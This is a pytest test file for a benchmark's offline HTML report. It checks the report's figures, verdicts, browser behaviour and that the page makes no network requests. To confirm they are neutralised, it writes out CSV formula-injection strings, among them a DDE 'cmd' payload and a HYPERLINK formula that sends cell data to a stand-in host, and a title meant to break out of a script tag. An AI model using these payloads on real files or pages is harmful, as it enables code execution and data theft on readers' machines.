"""Tests of the HTML report in a real browser: a click changes what is shown, and the page sends no request."""

import csv
import io
import json
import re
import shutil
import subprocess
from importlib.resources import files
from pathlib import Path

import pytest
from browser import BROWSER, DRIVER, MISSING, open_browser, resize, settle
from colour_vision import luminance
from made_run import figure, make_run, without_means

from bench.analysis.compare import compare
from bench.measure.metrics.table import METRICS
from bench.report.html import write_report
from bench.report.html.build import report_data
from bench.results.reader import Run
from bench.util.files import is_formula, no_formula
from systems.errors import UserError

NODE = shutil.which("node")
needs_node = pytest.mark.skipif(NODE is None, reason="no node on this machine (Debian: apt-get install nodejs)")
NAMES = ["gensc", "linear", "jpeg-ldpc-16qam"]


def _result(_figure, system, snr, index):
    if system.startswith("jpeg") and snr < 10:
        return "outage"
    if _figure["task"] == "segmentation":
        return 0.5 + snr / 100 + index / 50 + (system == "gensc") / 10
    return 20 + snr / 2 + index / 10 + {"gensc": 1.0, "linear": 0.0}.get(system, 1.0)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """Two figures with pictures: one of photographs, one of class maps. One title tries to end the page's script."""
    figures = [
        figure("fig4", NAMES, title="</script><b>odd", snrs=[0.0, 10.0, 20.0], pictures=[0.0, 10.0]),
        figure("fig7", ["gensc", "jpeg-ldpc-16qam-fcn"], task="segmentation", snrs=[0.0, 10.0], pictures=[0.0, 10.0]),
        figure("fade", ["gensc", "jpeg-ldpc-16qam"], channel="rayleigh-block", snrs=[0.0, 10.0]),
        figure("fig5", ["gensc", "linear"], dataset="kodak", snrs=[1.0, 10.0]),
    ]
    return Run.open(make_run(tmp_path_factory.mktemp("html") / "run", figures, _result))


@pytest.fixture(scope="module")
def page(run, tmp_path_factory):
    return write_report([run], tmp_path_factory.mktemp("page") / "report.html", 24)


def test_the_file_is_whole_and_points_to_nothing_outside(page):
    text = page.read_text(encoding="utf-8")
    assert not re.search(r"{{(title|style|data|chart|script)}}", text)
    assert not re.search(r"""(?:src|href)\s*=\s*["'](?:https?:)?//""", text)
    body = re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.S).group(1)
    assert json.loads(body)["figures"][0]["title"] == "</script><b>odd"


def test_no_name_of_a_run_is_a_part_of_the_page(run, tmp_path):
    """The keys of the page's parts may stand in a name: each part is put in its own place, once."""
    named = "{{rules}} /* {{script}} */"
    odd = Run(run.directory, run.manifest | {"run": named})
    text = write_report([odd], tmp_path / "report.html", 0).read_text(encoding="utf-8")
    assert f"<title>semantic-bench: {named}</title>" in text
    assert "{{rules}}" not in text.partition("</title>")[2].partition('<script type="application/json"')[0]


def test_the_data_are_the_run_s_own_numbers(run):
    data = report_data([run], 24)
    points = data["figures"][0]["points"]["psnr_db"]
    summary = run.summary.set_index(["system", "snr_db", "metric"])
    for system, values in points.items():
        for snr, value in zip(data["figures"][0]["snrs"], values, strict=True):
            assert value[0] == pytest.approx(summary.loc[(system, snr, "psnr_db"), "mean"])
    assert data["figures"][0]["points"]["psnr_db"]["jpeg-ldpc-16qam"][0][4] > 0  # lost pictures are counted


def test_nobody_gains_in_the_page_by_losing_the_hard_pictures(tmp_path):
    """`mine` is worse, and loses the pictures on which it is far worse. On AWGN neither its curve nor its difference is
    drawn there; under fading all pictures count.
    """
    figures = [figure(name, ["mine", "other"], channel=name, snrs=[6.0]) for name in ("awgn", "rayleigh-block")]
    chosen = make_run(
        tmp_path / "run", figures,
        lambda f, system, snr, index: 30.0 + index if system == "other" else "outage" if index < 4 else 30.4 + index,
    )  # fmt: skip
    plain, faded = report_data([Run.open(chosen)], 24)["figures"]
    assert plain["pairs"]["psnr_db"] == []
    ((a, b, _, mean, _, _, n, _),) = faded["pairs"]["psnr_db"]
    assert (a, b, n) == ("mine", "other", 8) and mean < 0


def test_no_two_systems_of_third_parties_share_colour_and_dash(tmp_path):
    """The page draws no markers, so nothing else tells their curves apart."""
    names = ["semantic-x", "ntscc", "vq-jscc", "diffjscc", "my-system", "deepsc", "rival", "his77"]
    facts = {name: {"plugin": True, "colour": "#123456" if name in ("rival", "his77") else ""} for name in names}
    folder = make_run(tmp_path / "run", [figure("fig4", names, snrs=[6.0])], lambda *_: 30.0, systems=facts)
    shown = report_data([Run.open(folder)], 0)["systems"]
    assert shown["rival"]["colour"] == shown["his77"]["colour"] == "#123456"
    assert len({(shown[name]["colour"], tuple(shown[name]["dash"])) for name in names}) == len(names)


def test_the_page_shows_the_variant_of_the_rows(tmp_path):
    """A third party's system may say another one of itself."""
    facts = {"gensc": {"variant": "better-than-all", "plugin": True}}
    folder = make_run(tmp_path / "run", [figure("fig4", ["gensc"], snrs=[6.0])], lambda *_: 30.0, systems=facts)
    assert report_data([Run.open(folder)], 0)["systems"]["gensc"]["variant"] == "small-1"


def test_a_run_stands_in_a_page_once(run, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(run.directory)
    for other in (run, Run.open(link)):
        with pytest.raises(UserError, match="this run is named twice"):
            write_report([run, other], tmp_path / "report.html", 0)
    assert not (tmp_path / "report.html").exists()


def test_two_runs_of_one_name_keep_their_own_facts(tmp_path):
    """Each has its name, its label, its values and its pictures in the page."""
    folders = [tmp_path / "mine" / "run", tmp_path / "theirs" / "run", tmp_path / "third" / "run (2)"]
    runs = []
    for place, folder in enumerate(folders):
        facts = {"gensc": {"parameters": 100 + place}}
        shown = [figure("fig4", ["gensc"], snrs=[6.0], pictures=[6.0])]
        runs.append(Run.open(make_run(folder, shown, lambda *_, place=place: 20.0 + place, systems=facts)))
    data = report_data(runs, 24)
    names = ["run", "run (3)", "run (2)"]
    assert [run["name"] for run in data["runs"]] == [one["run"] for one in data["figures"]] == names
    assert [run["manifest"]["run"] for run in data["runs"]] == ["run", "run", "run (2)"]
    keys = [f"{name}:gensc" for name in names]
    assert [one["systems"] for one in data["figures"]] == [[key] for key in keys]
    assert [data["systems"][key]["parameters"] for key in keys] == [100, 101, 102]
    assert [data["systems"][key]["label"] for key in keys] == [f"{name}: GenSC" for name in names]
    values = [one["points"]["psnr_db"][key][0][0] for one, key in zip(data["figures"], keys, strict=True)]
    assert values == pytest.approx([20.0, 21.0, 22.0])
    items = data["pictures"]["items"]
    assert {(item["run"], *(output["system"] for output in item["outputs"])) for item in items} == set(zip(names, keys))
    assert {claim["run"] for claim in data["claims"]} == set(names)


def test_a_colon_in_a_name_makes_no_system_of_another_run(tmp_path):
    pairs = (("a:b", "c"), ("a", "b:c"))
    runs = [Run.open(make_run(tmp_path / run, [figure("fig4", [system], snrs=[6.0])], lambda *_: 20.0))
            for run, system in pairs]  # fmt: skip
    assert set(report_data(runs, 0)["systems"]) == {"a_b:c", "a:b:c"}


def test_metrics_are_named_and_shown_as_their_records_say(run):
    shown = report_data([run], 24)["metrics"]
    for metric in METRICS:
        assert shown[metric.name] == {
            "label": metric.label, "unit": metric.unit, "factor": metric.scale, "digits": metric.digits,
            "higher": metric.higher_is_better,
        }  # fmt: skip
    assert set(shown) == {*METRICS.names(), "outage_rate"} and not shown["outage_rate"]["higher"]


def test_a_page_carries_no_more_pictures_than_asked(run):
    assert len(report_data([run], 24)["pictures"]["items"]) == 4
    none = report_data([run], picture_mib=0)["pictures"]
    assert len(none["items"]) <= 1 and none["left_out"] >= 3


def _with_seeds(folder, step):
    """A run in which `gensc` leads `linear` by 0.3 dB at one SNR, and three trainings of it, `step` dB apart."""

    def made(run, systems, more):
        lead = {"gensc": 0.3 + more, "linear": 0.0}
        figures = [figure("fig4", systems, snrs=[6.0])]
        return make_run(run, figures, lambda f, system, snr, index: 20 + index + lead[system])

    made(folder, ["gensc", "linear"], 0.0)
    for training in range(3):
        made(folder / "seeds" / str(training), ["gensc"], step * training)
    return Run.open(folder)


@needs_node
@pytest.mark.parametrize("step, word", [(0.25, "ahead"), (0.35, "undecided"), (None, "ahead")])
def test_the_page_decides_no_more_than_compare(tmp_path, step, word):
    """A difference that another seed of training could make is undecided there too, from both sides, in any metric."""
    run = _with_seeds(tmp_path / "run", step or 0.0)
    (shown,) = report_data([run], 0)["figures"]
    few = report_data([run], 0)["few"]
    code = (files("bench.report.html") / "verdict.js").read_text(encoding="utf-8")
    for metric in ("psnr_db", "psnr_of_mean_mse_db"):
        ((a, b, _, mean, low, high, n, spread),) = shown["pairs"][metric]
        assert (a, b) == ("gensc", "linear") and spread == pytest.approx(step or 0.0, abs=1e-6)
        gap = {"mean": mean, "low": low, "high": high, "n": n, "spread": spread}
        turned = gap | {"mean": -mean, "low": -high, "high": -low}
        said = _verdicts(code, [(gap, few, True), (turned, few, True), (turned, few, False)])
        assert said == [word, {"ahead": "behind"}.get(word, word), word]
        table = compare("gensc", "linear", run=run.directory, metric=metric)
        assert list(table["verdict"]) == [{"ahead": "A"}.get(word, word)]


def test_the_page_knows_no_spread_where_a_training_lacks_cells(tmp_path):
    run = _with_seeds(tmp_path / "run", 0.0)
    without_means(run.directory / "seeds" / "1", [("gensc", 6.0)])
    (shown,) = report_data([Run.open(run.directory)], 0)["figures"]
    assert [pair[-1] for pair in shown["pairs"]["psnr_db"]] == [None]


@needs_node
def test_the_words_of_the_page_are_those_of_compare():
    code = (files("bench.report.html") / "verdict.js").read_text(encoding="utf-8")
    gap = {"mean": 1.0, "low": 0.5, "high": 1.5, "n": 8, "spread": 0.0}
    around = {"low": -0.5, "high": 2.5}
    tied, alone = {"mean": 0.0, "low": 0.0, "high": 0.0}, {"low": None, "high": None, "n": 1}
    changes = [
        {},
        {"spread": 1.0},
        {"spread": 1.1},
        {"spread": None},
        around,
        around | {"n": 6},
        tied | {"n": 6},
        alone,
        {"mean": 0.0},
        {"mean": -1.0},
    ]
    said = _verdicts(code, [(gap | change, 7, True) for change in changes])
    assert said == ["ahead", "ahead", "undecided", "undecided", "tied", "undecided", "tied", "no interval",
                    "undecided", "undecided"]  # fmt: skip


def _verdicts(code, calls):
    code += f"process.stdout.write(JSON.stringify({json.dumps(calls)}.map((call) => verdictOf(...call))))"
    return json.loads(subprocess.run([NODE, "-e", code], capture_output=True, check=True).stdout)


@needs_node
def test_no_text_is_a_formula_in_a_table_that_the_page_saves():
    """A label, a licence or a picture's name could start a program on the machine of a reader."""
    formulas = ["=1+1", '=HYPERLINK("http://x/?a="&A1,"b")', "+A1", "-1+cmd|' /C calc'!A1", "@SUM(A1)", " =A1", "-"]
    formulas += ["＝A1", "－A1", "a;=A1", "a；-A1"]
    texts = [*formulas, "plain, with a comma", 'a "quote"', "two\nlines", "x\r=A1", "", "-3", "+1e3", "a=b"]
    rows = [[text, None, -1.5, 7] for text in texts]
    code = (files("bench.report.html") / "csv.js").read_text(encoding="utf-8")
    code += f"process.stdout.write(csvText(['=head', 'b', 'c', 'd'], {json.dumps(rows)}))"
    saved = subprocess.run([NODE, "-e", code], capture_output=True, check=True).stdout
    read = list(csv.reader(io.StringIO(saved.decode(), newline="")))
    assert read == [["'=head", "b", "c", "d"], *([no_formula(text), "", "-1.5", "7"] for text in texts)]
    assert list(filter(is_formula, texts)) == formulas and not any(is_formula(cell) for row in read for cell in row)


def test_the_page_saves_its_tables_by_that_function(page):
    text = page.read_text(encoding="utf-8")
    assert text.count("const csvText = (head, rows)") == 1 and "text/csv" in text.partition("csvText(head, rows);")[2]
    assert len(re.findall(r"new Blob\(", text)) == 1


@pytest.fixture(scope="module")
def browser(page, tmp_path_factory):
    if not (BROWSER and DRIVER):
        pytest.skip(MISSING)
    downloads = tmp_path_factory.mktemp("downloads")
    driver = open_browser(tmp_path_factory.mktemp("profile"), downloads)
    driver.downloads = downloads
    driver.get(page.as_uri())
    yield driver
    driver.quit()


def _choose(browser, element, value):
    browser.execute_script(
        "const s = document.getElementById(arguments[0]); s.value = arguments[1];"
        "s.dispatchEvent(new Event('change')); s.dispatchEvent(new Event('input'));",
        element, value,
    )  # fmt: skip


def _cells(browser, table):
    return browser.execute_script(
        "return [...document.querySelectorAll('#' + arguments[0] + ' tbody tr')]"
        ".map(row => [...row.cells].map(cell => cell.innerText))",
        table,
    )


def test_a_legend_entry_hides_its_curve_and_the_link_keeps_it(browser, page):
    assert [row[0] for row in _cells(browser, "points")][0] == "GenSC"
    browser.execute_script("document.querySelector('[data-system=gensc]').click()")
    assert "GenSC" not in [row[0] for row in _cells(browser, "points")]
    assert "off=gensc" in browser.execute_script("return location.hash")
    address = browser.current_url
    browser.get("about:blank")
    browser.get(address)
    assert "GenSC" not in [row[0] for row in _cells(browser, "points")]
    browser.get("about:blank")
    browser.get(page.as_uri())


def test_relative_values_name_ties_and_ahead(browser):
    _choose(browser, "base", "linear")
    rows = {row[0]: row[1:] for row in _cells(browser, "points")}
    assert rows["GenSC"] == ["+1.00\nahead"] * 3
    assert rows["JPEG+LDPC+16QAM"][0] == ""  # lost there: there is no pair
    _choose(browser, "base", "jpeg-ldpc-16qam")
    assert {row[0]: row[1:] for row in _cells(browser, "points")}["GenSC"][1] == "0.00\ntied"
    _choose(browser, "base", "")


def test_the_metric_and_the_figure_are_chosen_from_lists(browser):
    _choose(browser, "metric", "outage_rate")
    rows = {row[0]: row[1:] for row in _cells(browser, "points")}
    assert rows["JPEG+LDPC+16QAM"][0].startswith("100.0") and rows["GenSC"][0].startswith("0.0")
    _choose(browser, "figure", "1")
    assert "mIoU" in browser.execute_script("return document.getElementById('metric').selectedOptions[0].text")
    _choose(browser, "metric", "iou:15")
    assert float(_cells(browser, "points")[0][1].split()[0]) > 0
    _choose(browser, "figure", "0")


def test_a_lost_point_is_no_number(browser):
    rows = {row[0]: row[1:] for row in _cells(browser, "points")}
    assert rows["JPEG+LDPC+16QAM"][0].startswith("lost") and rows["GenSC"][0].split()[0] == "21.35"


def test_under_fading_lost_pictures_are_scored_and_counted(browser):
    _choose(browser, "figure", "2")
    note = browser.execute_script("return document.getElementById('figure-note').textContent")
    rows = {row[0]: row[1:] for row in _cells(browser, "points")}
    _choose(browser, "figure", "0")
    value, lost = rows["JPEG+LDPC+16QAM"][0].split("\n")
    assert float(value) > 0 and lost == "8 of 8 lost" and "mid-grey" in note


def test_published_curves_stand_beside_the_figure_of_their_data_set(browser):
    assert "elsewhere" not in browser.execute_script("return document.getElementById('figure-note').textContent")
    _choose(browser, "figure", "3")
    note = browser.execute_script("return document.getElementById('figure-note').textContent")
    named = browser.execute_script(
        "return [...document.querySelectorAll('#legend .thin')].map(e => e.innerText.trim())"
    )
    _choose(browser, "figure", "0")
    assert "WITT, published" in note and "github.com" in note
    assert "WITT, published" in named and len(named) == 4
    assert browser.execute_script("return document.querySelectorAll('#legend .thin').length") == 0


def test_the_pointer_reads_values(browser):
    from selenium.webdriver import ActionChains
    from selenium.webdriver.common.by import By

    over = browser.find_element(By.CSS_SELECTOR, "#chart .u-over")
    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", over)
    ActionChains(browser).move_to_element(over).perform()
    tip = browser.find_element(By.ID, "tip")
    assert tip.is_displayed() and "pictures" in tip.text and "GenSC" in tip.text


def test_the_slider_changes_the_picture_and_its_numbers(browser):
    before = browser.execute_script("return document.getElementById('left-text').textContent")
    shot = "return document.getElementById('canvas').toDataURL()"
    settle(browser)
    first = browser.execute_script(shot)
    browser.execute_script("const s = document.getElementById('snr'); s.value = 0; s.dispatchEvent(new Event('input'))")
    settle(browser)
    after = browser.execute_script("return document.getElementById('left-text').textContent")
    assert before != after and "dB" in after and "uses" in after and browser.execute_script(shot) != first


def test_the_captions_stand_under_the_picture(browser):
    left, right, frame = browser.execute_script(
        "const box = name => document.querySelector(name).getBoundingClientRect().toJSON();"
        "return ['#left-text', '#right-text', '.frame'].map(box)"
    )
    narrowest = 480  # pixels, for words under a small picture
    assert left["left"] == frame["left"] and left["top"] >= frame["bottom"] and right["left"] > left["right"]
    assert abs(right["right"] - frame["left"] - max(frame["width"], narrowest)) < 1


def test_tables_sort_and_download(browser):
    browser.execute_script("document.querySelectorAll('#rows-table th button')[2].click()")
    values = [float(row[2]) for row in _cells(browser, "rows-table")]
    assert len(values) > 1 and values == sorted(values, reverse=True)
    browser.execute_script("document.getElementById('points-csv').click()")
    settle(browser, 0.8)
    (file,) = list(browser.downloads.glob("*.csv"))
    lines = file.read_text().splitlines()
    assert lines[0].startswith("system,snr_db,metric") and lines[1].startswith("gensc,0,psnr_db")


def test_the_mistakes_of_a_segmentation_are_shown(browser):
    shot = "return document.getElementById('canvas').toDataURL()"
    items = browser.execute_script("return JSON.parse(document.getElementById('data').textContent).pictures.items")
    place = next(index for index, item in enumerate(items) if item["task"] == "segmentation")
    _choose(browser, "picture", str(place))
    settle(browser)
    labels = browser.execute_script(shot)
    browser.execute_script("document.getElementById('difference').click()")
    settle(browser)
    assert browser.execute_script(shot) != labels and "d=1" in browser.execute_script("return location.hash")
    browser.execute_script("document.getElementById('difference').click()")
    _choose(browser, "picture", "0")


def test_the_systems_table_says_what_each_one_spends(browser, run):
    names = browser.execute_script(
        "return [...document.querySelectorAll('#systems-table th')].map(cell => cell.innerText)"
    )
    rows = {row[0]: dict(zip(names, row, strict=True)) for row in _cells(browser, "systems-table")}
    assert {"Uses", "of these side information", "Payload (bits)", "Parameters", "FLOPs encode", "Decode (ms)"} <= {
        *names
    }
    samples = run.samples_of(run.figures[0])
    own = samples[samples["system"] == "gensc"]
    assert rows["GenSC"]["Uses"] == f"{own['n_uses'].mean():,.0f}"
    assert float(rows["GenSC"]["Decode (ms)"]) == pytest.approx(1000 * own["decode_s"].median(), abs=0.06)


def test_keyboard_reaches_the_controls(browser):
    names = browser.execute_script(
        "return [...document.querySelectorAll('select, input, button, #canvas')]"
        ".filter(e => e.tabIndex < 0 || !(e.labels?.length || e.textContent.trim() || e.getAttribute('aria-label')))"
        ".map(e => e.id)"
    )
    assert names == []


def test_a_narrow_screen_and_the_dark_theme_show_everything(browser):
    resize(browser, 390, 844)
    settle(browser)
    width, needed = browser.execute_script("return [innerWidth, document.documentElement.scrollWidth]")
    resize(browser, 1440, 1200)
    assert width == 390 and needed <= 390
    browser.execute_script("document.getElementById('theme').click()")
    assert browser.execute_script("return document.documentElement.dataset.theme") == "dark"


def test_on_the_dark_page_every_curve_is_bright(browser):
    browser.execute_script(
        "if (document.documentElement.dataset.theme !== 'dark') document.getElementById('theme').click()"
    )
    colours = browser.execute_script(
        "return [...document.querySelectorAll('#legend button line')].map(line => line.getAttribute('stroke'))"
    )
    assert colours and all(luminance(colour) > 0.2 for colour in colours)


def test_print_keeps_the_heads_of_tables_and_opens_the_numbers(browser):
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    browser.execute_script("dispatchEvent(new Event('beforeprint'))")
    heads, controls = browser.execute_script(
        "const shown = node => node.getClientRects().length > 0;"
        "return [[...document.querySelectorAll('#points th button')].every(shown),"
        "[...document.querySelectorAll('.controls, nav, #points-csv')].some(shown)]"
    )
    closed = browser.execute_script("return document.querySelectorAll('.claim details:not([open])').length")
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})
    assert heads and not controls and closed == 0


def test_no_console_error_and_no_request(browser, page):
    """Runs last, to cover what the tests before it did."""
    assert [entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE"] == []
    asked = set()
    for entry in browser.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            asked.add(message["params"]["request"]["url"].split("#")[0].partition(":")[0])
    assert asked <= {"file", "data", "about", "blob", "chrome"}  # chrome: the browser's own first tab


@pytest.mark.slow
@pytest.mark.timeout(1500)
def test_a_run_of_forty_thousand_rows_opens_fast(browser, tmp_path):
    """The committed run: every row of it is in the page, which opens and changes its figure without a wait."""
    committed = Run.open(Path(__file__).resolve().parents[3] / "results" / "reference")
    page = write_report([committed], tmp_path / "report.html", 24)
    browser.get(page.as_uri())
    rows, opened, switched = browser.execute_script(
        "const data = JSON.parse(document.getElementById('data').textContent), start = performance.now();"
        "const list = document.getElementById('figure'); list.value = '1'; list.dispatchEvent(new Event('change'));"
        "return [data.figures.reduce((sum, figure) => sum + figure.samples.image.length, 0),"
        "performance.getEntriesByType('navigation')[0].loadEventEnd, performance.now() - start]"
    )
    assert rows > 35_000 and opened < 10_000 and switched < 2_000
